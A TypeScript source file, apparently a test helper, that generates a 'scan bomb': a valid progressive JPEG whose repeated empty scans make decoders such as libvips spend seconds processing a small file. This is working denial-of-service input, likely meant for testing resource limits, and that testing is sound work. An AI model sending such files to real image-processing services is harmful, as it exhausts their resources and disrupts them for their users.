const u16 = (value: number) => [value >> 8, value & 0xff];

/** A JPEG segment: marker, length, body. */
const segment = (marker: number, ...body: number[]): Buffer =>
  Buffer.from([0xff, marker, ...u16(body.length + 2), ...body]);

/** Entropy-coded bits as bytes, with 0xff escaped. */
const packed = (bits: string): Buffer =>
  Buffer.from(
    (bits.match(/.{1,8}/g) ?? [])
      .map((byte) => Number.parseInt(byte.padEnd(8, "0"), 2))
      .flatMap((byte) => (byte === 0xff ? [byte, 0] : [byte])),
  );

/** The header of a gray JPEG of `side` by `side` pixels, up to the first scan. */
export const jpegHeader = (side: number): Buffer =>
  Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, 0, ...Array<number>(64).fill(1)),
    segment(0xc2, 8, ...u16(side), ...u16(side), 1, 1, 0x11, 0),
    // One code of one bit each: "no difference" for DC, "up to 32,767 blocks end here" for AC.
    segment(0xc4, 0x00, 1, ...Array<number>(15).fill(0), 0x00),
    segment(0xc4, 0x10, 1, ...Array<number>(15).fill(0), 0xe0),
  ]);

/**
 * A valid progressive JPEG with a repeated empty scan: about 75 bytes per scan, each decoded over the whole picture. Decoders do not
 * warn. 7,000 pixels and 1,800 scans are 233 KB and keep libvips busy for 6 s.
 */
export function scanBomb(side: number, scans: number): Buffer {
  const blocks = Math.ceil(side / 8) ** 2;
  const dc = Buffer.concat([segment(0xda, 1, 1, 0, 0, 0, 0), Buffer.alloc(Math.ceil(blocks / 8))]);
  const ac = Buffer.concat([
    segment(0xda, 1, 1, 0, 1, 63, 0),
    packed(`0${"1".repeat(14)}`.repeat(Math.ceil(blocks / 32_767))),
  ]);
  return Buffer.concat([jpegHeader(side), dc, ...Array<Buffer>(scans).fill(ac), Buffer.from([0xff, 0xd9])]);
}
